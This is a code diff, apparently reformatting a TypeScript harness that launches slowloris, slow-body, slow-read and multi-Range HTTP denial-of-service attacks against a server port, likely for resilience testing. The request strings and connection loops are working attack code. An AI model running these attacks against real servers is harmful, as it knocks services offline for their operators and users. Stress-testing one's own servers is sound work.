@@ -21,10 +21,14 @@ export interface Target {
 /** Runs one attack connection (or, for `range`, a loop of them) until `target.stopAt`. */
 export function attackOnce(attack: Attack, target: Target): Promise<void> {
   switch (attack) {
-    case 'slowloris': return drip(target, 'GET / HTTP/1.1\r\nHost: attack\r\nX-a: ', 'b');
-    case 'slow-body': return drip(target, `POST ${target.script} HTTP/1.1\r\nHost: attack\r\nContent-Length: 100000\r\n\r\n`, 'b');
-    case 'slow-read': return slowRead(target);
-    case 'range': return ranges(target);
+    case 'slowloris':
+      return drip(target, 'GET / HTTP/1.1\r\nHost: attack\r\nX-a: ', 'b');
+    case 'slow-body':
+      return drip(target, `POST ${target.script} HTTP/1.1\r\nHost: attack\r\nContent-Length: 100000\r\n\r\n`, 'b');
+    case 'slow-read':
+      return slowRead(target);
+    case 'range':
+      return ranges(target);
   }
 }
 
@@ -65,7 +69,9 @@ async function ranges(target: Target): Promise<void> {
     const socket = await dialOrUndefined(target.port);
     if (!socket) continue;
     socket.resume();
-    socket.write(`GET ${target.bigFile} HTTP/1.1\r\nHost: attack\r\nRange: ${MANY_RANGES}\r\nConnection: close\r\n\r\n`);
+    socket.write(
+      `GET ${target.bigFile} HTTP/1.1\r\nHost: attack\r\nRange: ${MANY_RANGES}\r\nConnection: close\r\n\r\n`,
+    );
     await until(socket, target.stopAt);
   }
 }
@@ -104,6 +110,11 @@ export async function runAttack(attack: Attack, target: Target, connections: num
 // `node dist/attacks.js attack port connections seconds`.
 if (import.meta.url === `file://${process.argv[1]}`) {
   const [attack, port, connections, seconds] = process.argv.slice(2);
-  const target = { port: Number(port), bigFile: '/big10m.bin', script: '/cgi-bin/read.sh', stopAt: Date.now() + Number(seconds) * 1000 };
+  const target = {
+    port: Number(port),
+    bigFile: '/big10m.bin',
+    script: '/cgi-bin/read.sh',
+    stopAt: Date.now() + Number(seconds) * 1000,
+  };
   await runAttack(attack as Attack, target, Number(connections));
 }
